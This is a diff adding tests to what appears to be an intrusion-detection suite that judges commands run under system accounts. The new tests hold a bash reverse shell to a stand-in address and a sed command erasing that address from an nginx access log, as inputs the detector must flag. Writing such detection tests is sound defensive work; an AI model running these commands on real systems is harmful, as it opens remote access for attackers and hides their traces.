@@ -46,6 +46,20 @@ describe('accounts of the system, by what the kernel says', () => {
     expect(findings[0]).toMatchObject({ title: 'Program fetched and run', level: 'high' });
   });
 
+  test('a shell that calls out, under an account like a person’s into which nobody logged in', async () => {
+    const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+    expect((await story(ran('shop7', 1007, shell))).verdict).toBe('breached');
+    expect((await story(ran('shop7', 1007, shell, 1007))).findings.map(({ title }) => title)).toEqual([
+      'Reverse shell',
+    ]);
+  });
+
+  test('lines that a web server’s account takes out of the web server’s log', async () => {
+    const { verdict, findings } = await story(ran('www-data', 33, "sed -i '/203.0.113.9/d' /var/log/nginx/access.log"));
+    expect([verdict, ...findings.map(({ title }) => title)]).toEqual(['breached', 'Logs wiped']);
+    expect((await story(ran('www-data', 33, 'truncate -s 0 /var/log/nginx/access.log'))).verdict).not.toBe('breached');
+  });
+
   test.each<[string, string[]]>([
     ['a builder', [ran('gitlab-runner', 998, FETCHED)]],
     ['a person who logged in', [ran('old', 501, FETCHED, 501)]],
